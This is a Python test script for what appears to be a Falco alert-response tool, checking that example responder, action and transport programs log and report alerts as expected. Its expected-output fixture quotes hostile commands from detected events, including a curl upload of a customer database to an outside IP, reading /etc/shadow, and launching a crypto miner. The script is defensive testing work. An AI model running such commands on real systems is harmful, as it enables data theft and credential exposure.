#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Runs the example programs and compares what they did: check_programs.py RESPONDER OWN_ACTION CUSTOM_TRANSPORT"""
import json
import pathlib
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
WRITTEN = """\
2026-07-14T09:21:33.104938271Z Notice Terminal shell in container: bash -i
2026-07-14T09:21:34.000000042Z Warning Run shell untrusted: sh -c "id; uname -a"
2026-07-14T09:22:01.000000042Z Critical Outbound connection to mining pool: xmrig -o pool.example:3333
2026-07-14T09:22:00.500000000Z Critical Drop and execute new binary in container: xmrig -o pool.example:3333
2026-07-14T09:25:10.000000007Z Critical Possible data exfiltration: curl -T /var/lib/app/customers.db https://203.0.113.77/u
2026-07-14T09:30:00.000000001Z Notice Terminal shell in container: sh
2026-07-14T09:31:12.220000000Z Warning Read sensitive file untrusted: cat /etc/shadow
2026-07-14T10:01:00.000001000Z Warning Create Privileged Pod: no command
2026-07-14T10:05:17.000000000Z Critical Console Login Without MFA: no command
2026-07-14T10:09:00.501000000Z Warning Adding new user to group with admin rights: no command
"""


def outcomes(text):
    return [o for line in text.splitlines() if line.startswith("[") for o in json.loads(line)]


def expect(what, wanted, got):
    if wanted != got:
        sys.exit(f"{what}: wanted\n{wanted}\ngot\n{got}")


def recent(alerts):
    """The recorded alerts as of today: an engine goes by the clock, and does nothing for old ones."""
    start = int(time.time()) - 60
    lines = [json.loads(one) for one in alerts.splitlines()]
    for n, one in enumerate(lines):
        one["time"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(start)) + ".%09dZ" % n
    return b"".join(json.dumps(one).encode() + b"\n" for one in lines)


def responder(program):
    with tempfile.TemporaryDirectory() as folder:
        answered = pathlib.Path(folder) / "answered.log"
        playbook = pathlib.Path(folder) / "record.yaml"
        text = (HERE / "playbooks" / "record.yaml").read_text()
        playbook.write_text(text.replace("/var/lib/falcoir/answered.log", str(answered)))
        alerts = recent((HERE / "alerts" / "falco.ndjson").read_bytes())
        run = subprocess.run([program, playbook], input=alerts, capture_output=True, check=True, timeout=60)
        expect("responder's file", [one.split(" ", 1)[1] for one in WRITTEN.splitlines()],
               [one.split(" ", 1)[1] for one in answered.read_text().splitlines()])
        done = outcomes(run.stdout.decode())
        expect("responder's outcomes", ["succeeded"] * 10, [o["status"] for o in done])
        expect("their numbers", list(range(1, 11)), [o["seq"] for o in done])
        expect("responder's errors", b"", run.stderr)
        playbook.write_text("- rule: x\n")
        run = subprocess.run([program, playbook], input=b"", capture_output=True, check=False, timeout=60)
        expect("a broken playbook's exit code", 2, run.returncode)
        expect("its diagnostics", True, b"FIR-P1" in run.stderr)


def own_action(program):
    text = subprocess.run([program], capture_output=True, check=True, timeout=60).stdout.decode()
    first = text.splitlines()[0]
    done = outcomes(text)
    expect("own_action's outcomes", [("succeeded", "ticket:open")], [(o["status"], o["use"]) for o in done])
    expect("its ticket", f"soc: Terminal shell in container on node-1 (key {done[0]['action_id'][:8]}…, attempt 1)", first)


def custom_transport(program):
    alerts = recent((HERE / "alerts" / "falco.ndjson").read_bytes())
    text = subprocess.run([program, HERE / "playbooks" / "quickstart.yaml"], input=alerts, capture_output=True, check=True, timeout=60).stdout.decode()
    expect("custom_transport's requests", ["POST http://127.0.0.1:8099/hooks/falco"] * 2, [line.split(",")[0] for line in sorted(text.splitlines())])


if __name__ == "__main__":
    responder(sys.argv[1])
    own_action(sys.argv[2])
    custom_transport(sys.argv[3])
    print("the examples do what they say")
